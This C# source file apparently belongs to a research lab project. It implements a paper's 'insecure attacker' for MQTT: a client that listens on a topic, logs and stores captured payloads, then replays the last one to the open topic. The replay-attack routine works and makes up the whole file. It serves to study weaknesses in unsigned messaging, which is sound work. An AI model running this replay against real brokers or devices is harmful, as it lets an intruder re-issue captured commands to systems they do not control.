using System.Collections.Concurrent;
using System.Text;
using Signet.Mqtt.Client;

namespace Signet.Lab;

/// <summary>The paper's insecure attacker: an ordinary client that listens, keeps what it hears, and plays the last of it again.</summary>
public sealed class OpenAttacker(MqttClient client, LabLog log, TimeProvider time)
{
    private readonly ConcurrentQueue<byte[]> _captured = new();

    public IReadOnlyCollection<byte[]> Captured => _captured;

    /// <summary>Listens until cancelled.</summary>
    public async Task ListenAsync(CancellationToken cancellationToken)
    {
        log.Info("Attacker is listening for messages...");
        await foreach (var message in client.ReadMessagesAsync(cancellationToken))
        {
            log.Info("Captured message", new() { ["topic"] = message.Topic, ["payload"] = Encoding.UTF8.GetString(message.Payload.Span[..Math.Min(message.Payload.Length, 512)]) });
            _captured.Enqueue(message.Payload.ToArray());
        }
    }

    /// <summary>Plays the last captured message again. Null when there is none.</summary>
    public async Task<byte[]?> ReplayAsync(CancellationToken cancellationToken)
    {
        log.Info("Launching replay attack!");
        if (_captured.LastOrDefault() is not { } last)
        {
            log.Warning("No messages captured cannot replay");
            return null;
        }
        log.Info("Replaying captured message ...", new() { ["replayed_payload"] = Encoding.UTF8.GetString(last) });
        await client.PublishAsync(new() { Topic = PaperNames.OpenTopic, Payload = last }, cancellationToken);
        return last;
    }

    /// <summary>The paper's routine: capture for a while, replay, keep listening until cancelled.</summary>
    public async Task RunAsync(TimeSpan captureFor, CancellationToken cancellationToken)
    {
        var listening = ListenAsync(cancellationToken);
        await Task.Delay(captureFor, time, cancellationToken);
        await ReplayAsync(cancellationToken);
        await listening;
    }
}
